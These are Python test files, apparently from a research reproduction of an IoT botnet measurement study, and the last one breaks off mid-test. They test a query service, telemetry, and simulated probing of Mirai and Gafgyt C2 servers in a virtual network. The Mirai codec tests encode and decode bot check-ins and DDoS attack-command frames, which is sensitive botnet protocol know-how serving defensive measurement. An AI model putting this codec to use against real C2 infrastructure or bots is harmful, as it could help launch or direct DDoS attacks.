class TestServeAndQueryCommands:
    @pytest.fixture(scope="class")
    def daemon_url(self):
        import threading

        from repro.core.pipeline import PipelineConfig
        from repro.service import StudyService, build_server, serve_forever
        from repro.world import StudyScale

        scale = StudyScale(sample_fraction=0.05, probe_days=2,
                           observe_duration=1800.0,
                           observe_poll_interval=300.0, scan_budget=120)
        service = StudyService(seed=11, scale=scale,
                               config=PipelineConfig(study_days=60))
        server = build_server(service)
        thread = threading.Thread(target=serve_forever,
                                  args=(server, service), daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}"
        server.shutdown()
        thread.join(timeout=10)

    def test_ingest_then_status(self, daemon_url):
        code, text = run_cli("query", daemon_url, "ingest", "--days", "all")
        assert code == 0
        assert '"finalized": true' in text
        code, text = run_cli("query", daemon_url, "status")
        assert code == 0
        assert '"pipeline_done": true' in text

    def test_rules_are_raw_text(self, daemon_url):
        code, text = run_cli("query", daemon_url, "rules",
                             "--tech", "iptables")
        assert code == 0
        assert text == "" or text.lstrip().startswith("-A ")

    def test_profile_requires_sha256(self, daemon_url):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("query", daemon_url, "profile")
        assert "--sha256" in str(excinfo.value)

    def test_unknown_hash_is_a_clean_error(self, daemon_url):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("query", daemon_url, "profile", "--sha256", "ab" * 32)
        assert "404" in str(excinfo.value)

    def test_unreachable_service_is_a_clean_error(self):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("query", "http://127.0.0.1:9", "health")
        assert "cannot reach" in str(excinfo.value)

    def test_serve_rejects_negative_workers(self):
        with pytest.raises(SystemExit) as excinfo:
            run_cli("serve", "--workers", "-2", "--port", "0")
        assert "--workers" in str(excinfo.value)
