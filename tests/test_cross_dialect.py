"""Cross-dialect robustness: probing with the wrong protocol must fail.

The D-PC2 campaign weaponizes one Gafgyt and one Mirai sample; a C2 only
engages a probe speaking its own dialect.  This is what keeps the probing
results meaningful (a Gafgyt C2 discovered by the Gafgyt probe, not by
accident), and it is also how the C2Server must behave when fed garbage.
"""

import random

import pytest

from repro.binary.builder import build_sample
from repro.binary.config import BotConfig
from repro.botnet.c2server import C2Server
from repro.botnet.families import get_family
from repro.netsim.addresses import int_to_ip, ip_to_int
from repro.netsim.internet import Listener, VirtualInternet
from repro.netsim.packet import Protocol
from repro.sandbox.qemu import MipsEmulator
from repro.sandbox.sandbox import CncHunterSandbox, SANDBOX_IP

C2_IP = ip_to_int("203.0.113.30")
C2_PORT = 666

DIALECT_FAMILIES = ("mirai", "gafgyt", "daddyl33t", "tsunami")


def build_probe(family):
    config = BotConfig(family=family, c2_host=int_to_ip(C2_IP),
                       c2_port=C2_PORT)
    return build_sample(config, random.Random(hash(family) & 0xFFFF))


def sandbox_with_c2(server_family):
    internet = VirtualInternet(random.Random(0))
    internet.add_host(SANDBOX_IP)
    host = internet.add_host(C2_IP)
    server = C2Server(get_family(server_family), random.Random(1))
    host.bind(Listener(port=C2_PORT, protocol=Protocol.TCP, service=server))
    sandbox = CncHunterSandbox(
        random.Random(2), internet,
        emulator=MipsEmulator(random.Random(3), activation_rate=1.0),
    )
    return sandbox, server


class TestDialectMatching:
    @pytest.mark.parametrize("family", DIALECT_FAMILIES)
    def test_matching_dialect_engages(self, family):
        sandbox, _server = sandbox_with_c2(family)
        (result,) = sandbox.probe_targets(build_probe(family).data,
                                          [(C2_IP, C2_PORT)])
        assert result.engaged

    # daddyl33t and tsunami greet on connect, so any probe elicits bytes;
    # the silent dialects (gafgyt, mirai) are the clean mismatch cases
    @pytest.mark.parametrize("server_family,probe_family", [
        ("gafgyt", "mirai"),
        ("mirai", "gafgyt"),
        ("mirai", "daddyl33t"),
        ("gafgyt", "daddyl33t"),
    ])
    def test_mismatched_dialect_does_not_engage(self, server_family,
                                                probe_family):
        sandbox, server = sandbox_with_c2(server_family)
        (result,) = sandbox.probe_targets(build_probe(probe_family).data,
                                          [(C2_IP, C2_PORT)])
        assert not result.engaged
        # the TCP connection happened, but no application engagement
        assert SANDBOX_IP not in server.checked_in

    def test_daddyl33t_banner_is_not_engagement_proof(self):
        """Daddyl33t greets on connect; the probe still needs the right
        login to be *registered* (engagement counts bytes, registration
        gates command delivery)."""
        sandbox, server = sandbox_with_c2("daddyl33t")
        (result,) = sandbox.probe_targets(build_probe("mirai").data,
                                          [(C2_IP, C2_PORT)])
        # the welcome banner leaks bytes, so the probe "engages"...
        assert result.engaged
        # ...but the server never registers the client as a bot
        assert SANDBOX_IP not in server.checked_in


class TestServerJunkTolerance:
    @pytest.mark.parametrize("family", DIALECT_FAMILIES)
    def test_junk_bytes_do_not_crash_server(self, family):
        internet = VirtualInternet(random.Random(0))
        internet.add_host(SANDBOX_IP)
        host = internet.add_host(C2_IP)
        server = C2Server(get_family(family), random.Random(1))
        host.bind(Listener(port=C2_PORT, protocol=Protocol.TCP,
                           service=server))
        session = internet.tcp_connect(SANDBOX_IP, C2_IP, C2_PORT)
        rng = random.Random(7)
        for _ in range(5):
            session.send(bytes(rng.randrange(256) for _ in range(64)))
            session.recv()
        assert SANDBOX_IP not in server.checked_in
