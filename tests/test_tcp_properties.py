"""Property-based tests of TCP stream integrity and session behavior."""

import random

from hypothesis import given, settings, strategies as st

from repro.netsim.addresses import ip_to_int
from repro.netsim.internet import Listener, VirtualInternet
from repro.netsim.packet import Protocol
from repro.netsim.tcp import handshake_pair

CLIENT = ip_to_int("198.51.100.1")
SERVER = ip_to_int("203.0.113.1")

payload_lists = st.lists(st.binary(min_size=1, max_size=128), min_size=1,
                         max_size=12)


class TestStreamIntegrity:
    @given(payload_lists)
    def test_client_stream_reassembles_exactly(self, chunks):
        client, server, _ = handshake_pair(CLIENT, SERVER, 40000, 80,
                                           random.Random(0))
        for chunk in chunks:
            for ack in server.receive(client.send(chunk)):
                client.receive(ack)
        assert server.read() == b"".join(chunks)

    @given(payload_lists, payload_lists)
    def test_bidirectional_streams_independent(self, up, down):
        client, server, _ = handshake_pair(CLIENT, SERVER, 40000, 80,
                                           random.Random(0))
        pairs = list(zip(up, down))
        for chunk_up, chunk_down in pairs:
            for ack in server.receive(client.send(chunk_up)):
                client.receive(ack)
            for ack in client.receive(server.send(chunk_down)):
                server.receive(ack)
        assert server.read() == b"".join(u for u, _d in pairs)
        assert client.read() == b"".join(d for _u, d in pairs)

    @given(payload_lists, st.integers(min_value=0, max_value=2**32 - 1))
    def test_random_seqs_do_not_corrupt_stream(self, chunks, noise_seq):
        from repro.netsim.packet import TcpFlags, tcp_packet

        client, server, _ = handshake_pair(CLIENT, SERVER, 40000, 80,
                                           random.Random(0))
        # interleave a stray out-of-window segment before real data
        stray = tcp_packet(CLIENT, SERVER, 40000, 80,
                           TcpFlags.PSH | TcpFlags.ACK, b"NOISE",
                           seq=(client.snd_next + 7919 + noise_seq % 1000)
                           % 2**32)
        server.receive(stray)
        for chunk in chunks:
            for ack in server.receive(client.send(chunk)):
                client.receive(ack)
        data = server.read()
        assert b"NOISE" not in data or b"NOISE" in b"".join(chunks)
        assert data == b"".join(chunks)


class EchoService:
    def on_connect(self, session):
        pass

    def on_data(self, session, data):
        session.send(data)


class TestSessionProperties:
    @settings(max_examples=25, deadline=None)
    @given(payload_lists)
    def test_echo_session_roundtrip(self, chunks):
        internet = VirtualInternet(random.Random(0))
        internet.add_host(CLIENT)
        host = internet.add_host(SERVER)
        host.bind(Listener(port=7, protocol=Protocol.TCP,
                           service=EchoService()))
        session = internet.tcp_connect(CLIENT, SERVER, 7)
        received = b""
        for chunk in chunks:
            session.send(chunk)
            received += session.recv()
        assert received == b"".join(chunks)

    @settings(max_examples=25, deadline=None)
    @given(st.lists(st.integers(min_value=1, max_value=65535), min_size=1,
                    max_size=6, unique=True))
    def test_only_bound_ports_answer(self, ports):
        internet = VirtualInternet(random.Random(0))
        internet.add_host(CLIENT)
        host = internet.add_host(SERVER)
        bound = ports[: len(ports) // 2 + 1]
        for port in bound:
            host.bind(Listener(port=port, protocol=Protocol.TCP,
                               service=EchoService()))
        for port in ports:
            session = internet.tcp_connect(CLIENT, SERVER, port)
            assert (session is not None) == (port in bound)
