"""Tests for the telemetry core: metrics, tracing, events, exporters."""

import json
import re

import pytest

from repro.obs import (
    LATENCY_BUCKETS,
    NULL_TELEMETRY,
    EventLog,
    LabelCardinalityError,
    MetricError,
    MetricsRegistry,
    NullRegistry,
    NullTracer,
    Telemetry,
    Tracer,
    create_telemetry,
    escape_label_value,
    to_prometheus,
)


class TestCounter:
    def test_inc_and_value(self):
        registry = MetricsRegistry()
        counter = registry.counter("jobs_total", "jobs processed")
        counter.inc()
        counter.inc(4)
        assert registry.value("jobs_total") == 5.0

    def test_counters_only_go_up(self):
        counter = MetricsRegistry().counter("x")
        with pytest.raises(MetricError):
            counter.inc(-1)

    def test_untouched_counter_reads_zero(self):
        registry = MetricsRegistry()
        registry.counter("x")
        assert registry.value("x") == 0.0
        assert registry.value("never_registered") == 0.0


class TestGauge:
    def test_set_inc_dec(self):
        registry = MetricsRegistry()
        gauge = registry.gauge("depth")
        gauge.set(10)
        gauge.inc(2)
        gauge.dec(5)
        assert registry.value("depth") == 7.0


class TestLabels:
    def test_series_are_independent(self):
        registry = MetricsRegistry()
        counter = registry.counter("probes", labelnames=("outcome",))
        counter.labels(outcome="live").inc(3)
        counter.labels(outcome="dead").inc()
        assert registry.value("probes", outcome="live") == 3.0
        assert registry.value("probes", outcome="dead") == 1.0

    def test_label_mismatch_raises(self):
        counter = MetricsRegistry().counter("x", labelnames=("a",))
        with pytest.raises(MetricError):
            counter.labels(b="1")
        with pytest.raises(MetricError):
            counter.labels()

    def test_unlabelled_use_of_labelled_family_raises(self):
        counter = MetricsRegistry().counter("x", labelnames=("a",))
        with pytest.raises(MetricError):
            counter.inc()

    def test_cardinality_cap(self):
        registry = MetricsRegistry(max_label_sets=3)
        counter = registry.counter("x", labelnames=("k",))
        for i in range(3):
            counter.labels(k=i).inc()
        with pytest.raises(LabelCardinalityError):
            counter.labels(k="overflow")
        # existing series still usable
        counter.labels(k=0).inc()

    def test_label_values_coerced_to_str(self):
        registry = MetricsRegistry()
        counter = registry.counter("x", labelnames=("port",))
        counter.labels(port=23).inc()
        counter.labels(port="23").inc()
        assert registry.value("x", port=23) == 2.0


class TestHistogram:
    def test_bucketing_sum_count(self):
        registry = MetricsRegistry()
        hist = registry.histogram("lat", buckets=(1.0, 5.0)).labels()
        for value in (0.5, 0.9, 3.0, 100.0):
            hist.observe(value)
        assert hist.counts == [2, 1, 1]       # <=1, <=5, +Inf
        assert hist.cumulative() == [2, 3, 4]
        assert hist.sum == pytest.approx(104.4)
        assert hist.count == 4

    def test_boundary_is_inclusive(self):
        hist = MetricsRegistry().histogram("h", buckets=(1.0,)).labels()
        hist.observe(1.0)
        assert hist.counts == [1, 0]

    def test_unsorted_buckets_rejected(self):
        with pytest.raises(MetricError):
            MetricsRegistry().histogram("h", buckets=(5.0, 1.0))

    def test_snapshot_round_trips_through_json(self):
        registry = MetricsRegistry()
        hist = registry.histogram("h", labelnames=("feed",),
                                  buckets=LATENCY_BUCKETS)
        hist.labels(feed="vt").observe(90.0)
        again = json.loads(json.dumps(registry.snapshot()))
        series = again["h"]["series"][0]
        assert series["labels"] == {"feed": "vt"}
        assert series["value"]["count"] == 1


class TestRegistry:
    def test_get_or_create_is_idempotent(self):
        registry = MetricsRegistry()
        assert registry.counter("x") is registry.counter("x")

    def test_type_clash_raises(self):
        registry = MetricsRegistry()
        registry.counter("x")
        with pytest.raises(MetricError):
            registry.gauge("x")
        with pytest.raises(MetricError):
            registry.counter("x", labelnames=("a",))

    def test_bad_name_rejected(self):
        with pytest.raises(MetricError):
            MetricsRegistry().counter("bad name!")


class TestTracer:
    def test_nesting_builds_a_tree(self):
        tracer = Tracer()
        with tracer.span("outer", day=1):
            with tracer.span("inner"):
                pass
            with tracer.span("inner"):
                pass
        assert len(tracer.roots) == 1
        root = tracer.roots[0]
        assert root.name == "outer"
        assert root.attributes == {"day": 1}
        assert [c.name for c in root.children] == ["inner", "inner"]

    def test_aggregate_counts_and_wall_time(self):
        tracer = Tracer()
        for _ in range(3):
            with tracer.span("stage"):
                pass
        agg = tracer.aggregate()
        assert agg["stage"]["count"] == 3
        assert agg["stage"]["wall_seconds"] >= 0.0

    def test_sim_clock_elapsed(self):
        clock = {"now": 100.0}
        tracer = Tracer(sim_clock=lambda: clock["now"])
        with tracer.span("jump"):
            clock["now"] = 4000.0
        assert tracer.roots[0].sim_elapsed == pytest.approx(3900.0)

    def test_keep_spans_cap_still_aggregates(self):
        tracer = Tracer(keep_spans=2)
        for _ in range(5):
            with tracer.span("s"):
                pass
        assert len(tracer.roots) == 2
        assert tracer.dropped == 3
        assert tracer.aggregate()["s"]["count"] == 5

    def test_set_attribute_inside_span(self):
        tracer = Tracer()
        with tracer.span("s") as span:
            span.set_attribute("collected", 7)
        assert tracer.roots[0].attributes["collected"] == 7


class TestEventLog:
    def test_level_filtering(self):
        log = EventLog(level="info")
        log.debug("noise")
        log.emit("kept", day=3)
        assert [e["event"] for e in log.events] == ["kept"]
        assert log.events[0]["day"] == 3

    def test_jsonl_round_trip(self, tmp_path):
        log = EventLog()
        log.emit("a", n=1)
        log.warning("b", why="x")
        path = tmp_path / "events.jsonl"
        assert log.write_jsonl(str(path)) == 2
        records = [json.loads(line) for line in path.read_text().splitlines()]
        assert [r["event"] for r in records] == ["a", "b"]
        assert records[1]["level"] == "warning"

    def test_overflow_counted_not_lost_silently(self):
        log = EventLog(max_events=1)
        log.emit("a")
        log.emit("b")
        assert len(log.events) == 1
        assert log.dropped == 1

    def test_sim_clock_recorded(self):
        log = EventLog(sim_clock=lambda: 42.0)
        log.emit("tick")
        assert log.events[0]["sim"] == 42.0


PROM_SAMPLE_RE = re.compile(
    r'^[a-zA-Z_:][a-zA-Z0-9_:]*'
    r'(\{[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\]|\\.)*"'
    r'(,[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\]|\\.)*")*\})? '
    r'[0-9eE+.\-]+$'
)


class TestPrometheusExport:
    def _registry(self):
        registry = MetricsRegistry()
        registry.counter("jobs_total", "jobs").inc(3)
        probes = registry.counter("probes", "probes", labelnames=("outcome",))
        probes.labels(outcome="live").inc(2)
        probes.labels(outcome="dead").inc()
        hist = registry.histogram("lat_seconds", "latency", buckets=(1.0, 5.0))
        hist.observe(0.5)
        hist.observe(9.0)
        return registry

    def test_every_line_parses(self):
        text = to_prometheus(self._registry())
        for line in text.strip().splitlines():
            if line.startswith("# HELP") or line.startswith("# TYPE"):
                continue
            assert PROM_SAMPLE_RE.match(line), line

    def test_type_headers_present(self):
        text = to_prometheus(self._registry())
        assert "# TYPE jobs_total counter" in text
        assert "# TYPE probes counter" in text
        assert "# TYPE lat_seconds histogram" in text

    def test_histogram_exposition(self):
        text = to_prometheus(self._registry())
        assert 'lat_seconds_bucket{le="1.0"} 1' in text
        assert 'lat_seconds_bucket{le="5.0"} 1' in text
        assert 'lat_seconds_bucket{le="+Inf"} 2' in text
        assert "lat_seconds_sum 9.5" in text
        assert "lat_seconds_count 2" in text

    def test_label_escaping(self):
        registry = MetricsRegistry()
        counter = registry.counter("weird", labelnames=("v",))
        counter.labels(v='a"b\\c\nd').inc()
        text = to_prometheus(registry)
        assert r'weird{v="a\"b\\c\nd"} 1' in text
        for line in text.strip().splitlines():
            if not line.startswith("#"):
                assert PROM_SAMPLE_RE.match(line), line

    def test_escape_helper(self):
        assert escape_label_value('say "hi"\\') == r'say \"hi\"\\'

    def test_help_escaping_backslash_before_newline(self):
        from repro.obs import escape_help

        # escaping newline first would turn a literal backslash-n into a
        # double-escaped sequence; backslash must be escaped first
        assert escape_help("a\nb") == r"a\nb"
        assert escape_help("a\\nb") == r"a\\nb"
        assert escape_help("back\\slash\nline") == r"back\\slash\nline"

    def test_hostile_help_and_labels_round_trip(self):
        registry = MetricsRegistry()
        registry.counter("hostile_total",
                         'multi\nline "help" with \\n literal').inc()
        weird = registry.counter("weird", "w", labelnames=("v",))
        for value in ("new\nline", 'quo"te', "back\\slash", '\\"\n'):
            weird.labels(v=value).inc()
        text = to_prometheus(registry)
        lines = text.strip().splitlines()
        # one physical line per record: nothing leaked a raw newline
        # (HELP + TYPE + 1 sample) + (HELP + TYPE + 4 samples)
        assert len(lines) == 3 + 6
        help_line = next(l for l in lines if l.startswith("# HELP hostile"))
        assert help_line == r'# HELP hostile_total multi\nline "help" with \\n literal'
        for line in lines:
            if not line.startswith("#"):
                assert PROM_SAMPLE_RE.match(line), line
        # the escaped label values decode back to the originals
        import re as _re

        decoded = set()
        for match in _re.finditer(r'v="((?:[^"\\]|\\.)*)"', text):
            decoded.add(match.group(1)
                        .replace(r"\n", "\n")
                        .replace(r'\"', '"')
                        .replace(r"\\", "\\"))
        assert decoded == {"new\nline", 'quo"te', "back\\slash", '\\"\n'}


class TestNullTelemetry:
    def test_everything_is_a_noop(self):
        t = NULL_TELEMETRY
        assert not t.enabled
        t.metrics.counter("x", labelnames=("a",)).labels(a=1).inc()
        t.metrics.histogram("h").observe(2.0)
        with t.tracer.span("s", day=1) as span:
            span.set_attribute("k", "v")
        t.events.emit("e", field=1)
        assert t.events.events == []
        assert t.tracer.roots == []
        assert isinstance(t.metrics, NullRegistry)
        assert isinstance(t.tracer, NullTracer)
        assert t.snapshot()["metrics"] == {}

    def test_null_write_is_a_noop(self, tmp_path):
        assert NULL_TELEMETRY.write(str(tmp_path / "nothing")) == {}
        assert not (tmp_path / "nothing").exists()


class TestTelemetryFacade:
    def test_write_produces_all_three_artifacts(self, tmp_path):
        telemetry = create_telemetry()
        telemetry.metrics.counter("x", "help").inc()
        with telemetry.tracer.span("stage"):
            pass
        telemetry.events.emit("done")
        paths = telemetry.write(str(tmp_path / "tel"))
        snapshot = json.loads(open(paths["snapshot"]).read())
        assert snapshot["metrics"]["x"]["series"][0]["value"] == 1
        assert snapshot["spans"]["stage"]["count"] == 1
        assert snapshot["events"]["recorded"] == 1
        assert "# TYPE x counter" in open(paths["prometheus"]).read()
        assert json.loads(open(paths["events"]).read())["event"] == "done"

    def test_bind_sim_clock_reaches_tracer_and_events(self):
        telemetry = Telemetry()
        telemetry.bind_sim_clock(lambda: 7.0)
        with telemetry.tracer.span("s"):
            pass
        telemetry.events.emit("e")
        assert telemetry.events.events[0]["sim"] == 7.0
