"""The query API end-to-end: a real daemon on an ephemeral port.

One module-scoped service ingests a full smoke study through the HTTP
surface itself; every test then exercises a route through the stdlib
client — JSON schemas, the 404 contract, rule-feed content type, a
parseable ``/metrics`` scrape, and digest equality against a batch
``run_study`` of the same world.
"""

import json
import re
import threading
import urllib.request

import pytest

from repro.core.cache import dataset_digest
from repro.core.study import run_study
from repro.obs import create_telemetry
from repro.service import (ServiceError, StudyClient, StudyService,
                           build_server, serve_forever)
from repro.world import StudyScale, generate_world

SCALE = StudyScale(sample_fraction=0.05, probe_days=4,
                   observe_duration=1800.0, observe_poll_interval=300.0,
                   scan_budget=120)
SEED = 20220322


@pytest.fixture(scope="module")
def daemon():
    service = StudyService(seed=SEED, scale=SCALE,
                           telemetry=create_telemetry())
    server = build_server(service)  # port 0: ephemeral
    thread = threading.Thread(target=serve_forever, args=(server, service),
                              daemon=True)
    thread.start()
    port = server.server_address[1]
    client = StudyClient(f"http://127.0.0.1:{port}")
    client.ingest("all")  # the whole study arrives over the API
    yield service, client
    server.shutdown()
    thread.join(timeout=10)


@pytest.fixture(scope="module")
def batch_datasets():
    world = generate_world(seed=SEED, scale=SCALE)
    _malnet, _campaign, datasets = run_study(world)
    return datasets


# -- the service == batch oracle ---------------------------------------------


def test_digest_matches_batch_run_study(daemon, batch_datasets):
    _service, client = daemon
    document = client.digest()
    assert document["finalized"] is True
    assert document["dataset_digest"] == dataset_digest(batch_datasets)


def test_status_document(daemon):
    _service, client = daemon
    status = client.status()
    assert status["seed"] == SEED
    assert status["pipeline_done"] and status["finalized"]
    assert status["next_day"] == status["total_days"]
    assert re.fullmatch(r"[0-9a-f]{64}", status["fingerprint"])
    assert set(status["datasets"]) == {
        "D-Samples", "D-C2s", "D-PC2", "D-Exploits", "D-DDOS"}


def test_healthz(daemon):
    _service, client = daemon
    assert client.healthz() == {"ok": True}


# -- profiles -----------------------------------------------------------------


def test_profile_lookup_by_sha256(daemon, batch_datasets):
    _service, client = daemon
    profile = batch_datasets.profiles[0]
    document = client.profile(profile.sha256)
    assert document["sha256"] == profile.sha256
    assert document["day"] == profile.day
    assert document["family_label"] == profile.family_label
    assert len(document["exploits"]) == len(profile.exploits)
    for observation, doc in zip(profile.exploits, document["exploits"]):
        assert doc["payload_hex"] == observation.payload.hex()
    for doc in document["attacks"]:
        assert re.fullmatch(r"\d+\.\d+\.\d+\.\d+", doc["target_ip"])


def test_unknown_sha256_is_404(daemon):
    _service, client = daemon
    with pytest.raises(ServiceError) as excinfo:
        client.profile("f" * 64)
    assert excinfo.value.status == 404


def test_profiles_listing_filters(daemon, batch_datasets):
    _service, client = daemon
    listing = client.profiles()
    assert listing["total"] == len(batch_datasets.profiles)
    day = batch_datasets.profiles[0].day
    per_day = client.profiles(day=day)
    assert per_day["total"] == sum(
        1 for p in batch_datasets.profiles if p.day == day)
    limited = client.profiles(limit=2)
    assert limited["returned"] == min(2, limited["total"])


# -- analysis routes ----------------------------------------------------------


def test_c2_listing(daemon, batch_datasets):
    _service, client = daemon
    listing = client.c2s()
    assert listing["total"] == len(batch_datasets.d_c2s)
    endpoints = {doc["endpoint"] for doc in listing["c2s"]}
    assert endpoints == set(batch_datasets.d_c2s)


def test_lifespan_cdfs(daemon):
    _service, client = daemon
    cdfs = client.lifespans()
    assert set(cdfs) == {"ip", "dns"}
    assert cdfs["ip"], "smoke study should observe IP C2 lifespans"
    fractions = [point["fraction"] for point in cdfs["ip"]]
    assert fractions == sorted(fractions)
    assert fractions[-1] == pytest.approx(1.0)


def test_ddos_summary(daemon, batch_datasets):
    _service, client = daemon
    summary = client.ddos_summary()
    assert summary["total_commands"] == len(batch_datasets.d_ddos)
    distribution = summary["protocol_distribution"]
    assert sum(distribution.values()) == pytest.approx(1.0)
    for doc in summary["commands"]:
        assert doc["target_protocol"] in {"UDP", "TCP", "DNS", "ICMP"}


def test_exploits_summary(daemon, batch_datasets):
    _service, client = daemon
    summary = client.exploits_summary()
    assert summary["exploited_samples"] == \
        batch_datasets.exploit_sample_count()
    for row in summary["vulnerabilities"]:
        assert row["sample_count"] >= 1
        assert row["vuln_key"]


# -- text routes --------------------------------------------------------------


def test_rule_feed_is_plain_text(daemon):
    service, client = daemon
    content_type, body = client._request("GET", "/rules",
                                         {"technology": "iptables"})
    assert content_type.startswith("text/plain")
    for line in body.decode().strip().splitlines():
        assert line.startswith("-A "), line


def test_rule_feed_rejects_unknown_technology(daemon):
    _service, client = daemon
    with pytest.raises(ServiceError) as excinfo:
        client.rules("pf")
    assert excinfo.value.status == 400


def test_metrics_scrape_parses(daemon):
    _service, client = daemon
    text = client.metrics()
    assert text, "enabled telemetry must expose metrics"
    sample = re.compile(
        r"[a-zA-Z_:][a-zA-Z0-9_:]*(\{[^}]*\})? [0-9.e+-]+(\s|$)")
    for line in text.splitlines():
        if not line or line.startswith("#"):
            continue
        assert sample.match(line), f"unparseable sample line: {line!r}"
    assert "service_days_ingested_total" in text
    assert 'service_requests_total{' in text


# -- protocol edges -----------------------------------------------------------


def test_ingest_when_done_is_409(daemon):
    _service, client = daemon
    with pytest.raises(ServiceError) as excinfo:
        client.ingest(1)
    assert excinfo.value.status == 409


def test_finalize_is_idempotent(daemon):
    _service, client = daemon
    result = client.finalize()
    assert result["finalized"] and result["already_finalized"]


def test_unknown_route_is_404_and_wrong_method_405(daemon):
    _service, client = daemon
    with pytest.raises(ServiceError) as excinfo:
        client._json("GET", "/no/such/route")
    assert excinfo.value.status == 404
    with pytest.raises(ServiceError) as excinfo:
        client._json("POST", "/status")
    assert excinfo.value.status == 405


def test_index_lists_routes(daemon):
    _service, client = daemon
    index = client._json("GET", "/")
    assert any("profiles" in route for route in index["routes"])


def test_bad_ingest_body_is_400(daemon):
    service, client = daemon
    port = client.base_url.rsplit(":", 1)[1]
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/ingest/day", data=b"{not json",
        method="POST")
    try:
        urllib.request.urlopen(request, timeout=10)
        raise AssertionError("expected HTTP 400")
    except urllib.error.HTTPError as exc:
        assert exc.code == 400
        assert "JSON" in json.load(exc)["error"]


# -- ETag revalidation --------------------------------------------------------


@pytest.mark.parametrize("path", ["/digest", "/profiles", "/c2",
                                  "/summary/ddos", "/summary/exploits",
                                  "/rules"])
def test_cacheable_routes_revalidate_to_304(daemon, path):
    _service, client = daemon
    status, etag, body = client.conditional_get(path)
    assert status == 200 and body
    assert re.fullmatch(r'"[0-9a-f]{16}-\d+-[01]"', etag), etag
    status, again, body = client.conditional_get(path, etag)
    assert status == 304
    assert again == etag
    assert body == b""


def test_stale_etag_gets_a_full_response(daemon):
    _service, client = daemon
    status, etag, body = client.conditional_get(
        "/profiles", '"0000000000000000-0-0"')
    assert status == 200 and body
    assert etag is not None


def test_live_routes_are_not_etagged(daemon):
    _service, client = daemon
    for path in ("/status", "/metrics", "/healthz"):
        status, etag, body = client.conditional_get(path, '"whatever"')
        assert status == 200 and body
        assert etag is None


def test_etag_moves_with_ingest_and_finalize():
    """The validator must change whenever the served bytes can: per
    ingested day and again at finalization."""
    from repro.service.handlers import ServiceApi

    service = StudyService(seed=SEED, scale=SCALE,
                           telemetry=create_telemetry())
    api = ServiceApi(service)

    def get(headers=None):
        status, _ctype, _body, out = api.handle(
            "GET", "/digest", {}, headers=headers or {})
        return status, out.get("ETag")

    _status, before = get()
    assert get(({"If-None-Match": before}))[0] == 304
    service.ingest_days(1)
    status, after_day = get({"If-None-Match": before})
    assert status == 200 and after_day != before
    service.ingest_days(None)           # drain the study; auto-finalizes
    assert service.finalized
    status, final = get({"If-None-Match": after_day})
    assert status == 200 and final not in (before, after_day)
    assert get({"If-None-Match": final})[0] == 304


def test_cache_counter_tracks_hits_and_misses(daemon):
    _service, client = daemon
    status, etag, _body = client.conditional_get("/c2")
    assert status == 200
    assert client.conditional_get("/c2", etag)[0] == 304
    text = client.metrics()
    hits = re.search(
        r'service_cache_total\{result="hit"\} (\d+)', text)
    misses = re.search(
        r'service_cache_total\{result="miss"\} (\d+)', text)
    assert hits and int(hits.group(1)) >= 1
    assert misses and int(misses.group(1)) >= 1


def test_connection_refused_raises_service_error():
    client = StudyClient("http://127.0.0.1:9", timeout=2)
    with pytest.raises(ServiceError) as excinfo:
        client.healthz()
    assert excinfo.value.status == 0
