"""Tests for the Mirai binary C2 protocol codec and profiler."""

import struct

import pytest
from hypothesis import given, strategies as st

from repro.botnet.protocols import mirai
from repro.botnet.protocols.base import AttackCommand, ProtocolError
from repro.netsim.addresses import ip_to_int

TARGET = ip_to_int("192.0.2.50")


def udp_command(port=80, duration=60):
    return AttackCommand("udp", TARGET, port, duration)


class TestCheckin:
    def test_roundtrip(self):
        data = mirai.encode_checkin(b"botid123")
        assert mirai.decode_checkin(data) == b"botid123"

    def test_empty_id(self):
        assert mirai.decode_checkin(mirai.encode_checkin()) == b""

    def test_handshake_word(self):
        assert mirai.encode_checkin()[:4] == b"\x00\x00\x00\x01"

    def test_is_checkin(self):
        assert mirai.is_checkin(mirai.encode_checkin(b"x"))
        assert not mirai.is_checkin(b"PING\n")

    def test_rejects_bad_handshake(self):
        with pytest.raises(ProtocolError):
            mirai.decode_checkin(b"\x00\x00\x00\x02\x00")

    def test_rejects_truncated_id(self):
        with pytest.raises(ProtocolError):
            mirai.decode_checkin(b"\x00\x00\x00\x01\x08abc")

    def test_rejects_oversized_id(self):
        with pytest.raises(ProtocolError):
            mirai.encode_checkin(b"x" * 256)


class TestAttackCodec:
    def test_roundtrip(self):
        command = udp_command()
        decoded, consumed = mirai.decode_attack(mirai.encode_attack(command))
        assert decoded == command
        assert consumed == len(mirai.encode_attack(command))

    @given(
        method=st.sampled_from(sorted(mirai.METHOD_IDS)),
        ip=st.integers(min_value=1, max_value=0xFFFFFFFE),
        port=st.integers(min_value=0, max_value=65535),
        duration=st.integers(min_value=1, max_value=86400),
    )
    def test_roundtrip_property(self, method, ip, port, duration):
        command = AttackCommand(method, ip, port, duration)
        decoded, _ = mirai.decode_attack(mirai.encode_attack(command))
        assert decoded == command

    def test_unencodable_method_rejected(self):
        with pytest.raises(ProtocolError):
            mirai.encode_attack(AttackCommand("blacknurse", TARGET, 0, 10))

    def test_keepalive_not_an_attack(self):
        with pytest.raises(ProtocolError):
            mirai.decode_attack(mirai.KEEPALIVE)

    def test_truncated_rejected(self):
        data = mirai.encode_attack(udp_command())
        with pytest.raises(ProtocolError):
            mirai.decode_attack(data[:-1])

    def test_unknown_attack_id_rejected(self):
        body = struct.pack("!IBB", 10, 99, 1) + struct.pack("!IB", TARGET, 32) + b"\x00"
        frame = struct.pack("!H", len(body)) + body
        with pytest.raises(ProtocolError):
            mirai.decode_attack(frame)


class TestProfiler:
    def test_extracts_single_command(self):
        stream = mirai.encode_attack(udp_command())
        assert mirai.extract_commands(stream) == [udp_command()]

    def test_skips_keepalives(self):
        stream = mirai.KEEPALIVE * 3 + mirai.encode_attack(udp_command()) + mirai.KEEPALIVE
        assert mirai.extract_commands(stream) == [udp_command()]

    def test_multiple_commands(self):
        first = udp_command(port=80)
        second = AttackCommand("syn", TARGET, 443, 120)
        stream = mirai.encode_attack(first) + mirai.encode_attack(second)
        assert mirai.extract_commands(stream) == [first, second]

    def test_resyncs_over_garbage(self):
        stream = b"\x13\x37garbage" + mirai.encode_attack(udp_command())
